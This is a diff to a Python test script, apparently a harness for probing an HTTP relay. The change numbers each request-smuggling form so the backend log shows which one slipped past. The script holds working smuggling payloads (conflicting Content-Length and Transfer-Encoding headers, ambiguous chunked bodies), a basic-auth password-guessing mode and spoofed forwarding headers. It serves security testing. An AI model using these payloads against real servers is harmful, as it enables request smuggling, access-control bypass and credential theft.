@@ -2,7 +2,7 @@
 """HTTP requests with bad intent: requests.py CASE RELAY HOST arguments…, while the attack goes on. At last "rate N".
 
 	guess PREFIX       passwords for basic_auth, from the /64s of the IPv6 /48 PREFIX
-	smuggle            each form of a request that two readers could read differently, with a request for /smuggled inside it; over and over
+	smuggle            each form of a request that two readers could read differently, with a request for /smuggled/FORM inside it; over and over
 	folded             headers whose names some servers take for X-Forwarded-For and its like, once each
 	visit PATH         asks for PATH, 50 at a time
 """
@@ -81,7 +81,7 @@ def exchange(data, patience=0.3):
 		return got
 
 
-INNER = b"GET /smuggled HTTP/1.1\r\nHost: HOST\r\n\r\n"
+INNER = b"GET /smuggled/NUMBER HTTP/1.1\r\nHost: HOST\r\n\r\n"
 HEADS = [  # what goes between the request line and the empty line; %d is the length of the body
 	"Content-Length: 0\r\nContent-Length: %d", "Content-Length: %d\r\nContent-Length: 0", "Content-Length: 0, %d", "Content-Length: +%d",
 	"Content-Length: -%d", "Content-Length: %d\r\nTransfer-Encoding: chunked", "Transfer-Encoding: chunked\r\nContent-Length: %d",
@@ -103,24 +103,25 @@ BODIES = [  # chunked ones whose end can be read differently
 
 
 def forms():
-	inner = INNER.replace(b"HOST", name.encode())
-	for head in HEADS:
+	for number, head in enumerate(HEADS):
+		inner = INNER.replace(b"HOST", name.encode()).replace(b"NUMBER", b"%d" % number)
 		head = head.replace("%d %d", "%d" % len(inner) + " %d")
 		body = inner if "%" in head else b"0\r\n\r\n" + inner
 		text = head % len(body) if "%" in head else head
 		yield ("POST /outer HTTP/1.1\r\nHost: %s\r\n" % name).encode() + text.encode("latin-1") + b"\r\n\r\n" + body
-	for body in BODIES:
+	for number, body in enumerate(BODIES, len(HEADS)):
+		inner = INNER.replace(b"HOST", name.encode()).replace(b"NUMBER", b"%d" % number)
 		yield ("POST /outer HTTP/1.1\r\nHost: %s\r\nTransfer-Encoding: chunked\r\n\r\n" % name).encode() + body.replace(b"INNER", inner)
 
 
 def smuggle():
-	"""What is sent behind a request as a second one of its own is honest pipelining, so that only what is behind a broken head counts: the service
-	writes down what it was asked, and the script looks for what should not be there."""
+	"""Where the relay itself sees two requests it gives two answers, and nobody is deceived: those forms are named. What else the service is asked
+	for was smuggled past the relay."""
 	done, all_forms = 0, list(forms())
 	ready()
 	while goes_on() or done < len(all_forms):
 		if exchange(all_forms[done % len(all_forms)]).count(b"HTTP/1.1 200") > 1:
-			print("two answers to form %d" % (done % len(all_forms)))
+			print("two answers to %d" % (done % len(all_forms)))
 		done += 1
 	print("forms %d" % len(all_forms))
 	return done / seconds()
